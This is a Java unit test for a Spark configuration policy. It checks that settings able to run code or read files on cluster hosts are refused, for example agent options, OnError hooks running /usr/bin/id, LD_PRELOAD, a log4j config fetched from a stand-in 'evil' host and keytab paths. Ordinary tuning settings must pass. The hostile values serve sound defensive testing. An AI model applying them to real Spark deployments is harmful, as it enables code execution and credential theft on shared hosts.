package io.platyspark.core.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.platyspark.core.InvalidFieldException;
import java.util.Map;
import org.junit.jupiter.api.Test;

class SparkSettingsPolicyTest {

    @Test
    void settingsThatRunCodeOrReadFilesOnTheHostsAreRefusedNamingTheKey() {
        java.util.List<Map.Entry<String, String>> refused = new java.util.ArrayList<>();
        refused.add(Map.entry("spark.driver.extraJavaOptions", "-javaagent:/etc/passwd"));
        refused.add(Map.entry("spark.executor.extraJavaOptions", "-Xmx2g -agentpath:/tmp/x.so"));
        refused.add(Map.entry("spark.driver.defaultJavaOptions", "-XX:OnError=/usr/bin/id"));
        refused.add(Map.entry("spark.yarn.am.extraJavaOptions", "-XX:OnOutOfMemoryError=id"));
        refused.add(Map.entry("spark.executor.extraJavaOptions", "@/etc/argfile"));
        refused.add(Map.entry("spark.driver.extraJavaOptions", "-Dlog4j.configurationFile=http://evil/x.xml"));
        refused.add(Map.entry("spark.driver.extraJavaOptions", "-Djava.security.manager=x"));
        refused.add(Map.entry("spark.driver.extraJavaOptions", "-XX:+UnlockDiagnosticVMOptions"));
        refused.add(Map.entry("spark.driver.extraJavaOptions", "-Xbootclasspath/a:/etc"));
        refused.add(Map.entry("spark.pyspark.driver.python", "/usr/bin/id"));
        refused.add(Map.entry("spark.pyspark.python", "/usr/bin/id"));
        refused.add(Map.entry("spark.jars.ivySettings", "/etc/passwd"));
        refused.add(Map.entry("spark.plugins", "com.example.Plugin"));
        refused.add(Map.entry("spark.plugins.defaultList", "com.example.Plugin"));
        refused.add(Map.entry("spark.driver.resource.gpu.discoveryScript", "/usr/bin/id"));
        refused.add(Map.entry("spark.sql.hive.metastore.jars.path", "file:/etc/*.jar"));
        refused.add(Map.entry("spark.yarn.keytab", "/etc/krb5.keytab"));
        refused.add(Map.entry("spark.yarn.principal", "hdfs@EXAMPLE"));
        refused.add(Map.entry("spark.kubernetes.driver.podTemplateFile", "/etc/passwd"));
        refused.add(Map.entry("Spark.Kubernetes.Container.Image", "x"));
        refused.add(Map.entry("spark.driver.extraClassPath", "/etc"));
        refused.add(Map.entry("spark.executor.extraLibraryPath", "/tmp"));
        refused.add(Map.entry("spark.executorEnv.LD_PRELOAD", "/tmp/x.so"));
        refused.add(Map.entry("spark.yarn.appMasterEnv.JAVA_TOOL_OPTIONS", "-javaagent:/x"));
        refused.add(Map.entry("spark.executorEnv.PYSPARK_PYTHON", "/usr/bin/id"));
        refused.add(Map.entry("spark.eventLog.dir", "file:/etc"));
        refused.add(Map.entry("spark.master", "local[*]"));
        refused.forEach(e -> assertThatThrownBy(() -> SparkSettingsPolicy.check(Map.of(e.getKey(), e.getValue())))
                .as(e.toString())
                .isInstanceOf(InvalidFieldException.class)
                .satisfies(x ->
                        assertThat(((InvalidFieldException) x).field()).isEqualTo("sparkConf[" + e.getKey() + "]")));
        for (String options : new String[] {
            "-javaagent:/etc/passwd",
            "-agentpath:/x",
            "-agentlib:jdwp=x",
            "-XX:OnError=id",
            "-XX:OnOutOfMemoryError=id",
            "-Dx=/etc/passwd",
            "-Dx='a b'",
            "-cp /etc"
        }) {
            assertThat(SparkSettingsPolicy.problem("spark.driver.extraJavaOptions", options))
                    .as(options)
                    .isNotNull();
        }
    }

    @Test
    void ordinaryTuningStaysTheUsers() {
        Map<String, String> ordinary = Map.ofEntries(
                Map.entry("spark.executor.memory", "4g"),
                Map.entry("spark.driver.memory", "2g"),
                Map.entry("spark.executor.cores", "4"),
                Map.entry("spark.executor.instances", "3"),
                Map.entry("spark.sql.shuffle.partitions", "64"),
                Map.entry("spark.dynamicAllocation.enabled", "true"),
                Map.entry("spark.dynamicAllocation.maxExecutors", "20"),
                Map.entry("spark.sql.adaptive.enabled", "true"),
                Map.entry("spark.sql.session.timeZone", "UTC"),
                Map.entry("spark.executor.memoryOverhead", "1g"),
                Map.entry("spark.yarn.queue", "etl"),
                Map.entry("spark.executorEnv.TZ", "UTC"),
                Map.entry("spark.sql.extensions", "io.delta.sql.DeltaSparkSessionExtension"),
                Map.entry(
                        "spark.driver.extraJavaOptions",
                        "-XX:+UseG1GC -Xss4m -Duser.timezone=UTC " + "-XX:MaxGCPauseMillis=200 -Dconfig.env=prod"));

        SparkSettingsPolicy.check(ordinary);
    }
}
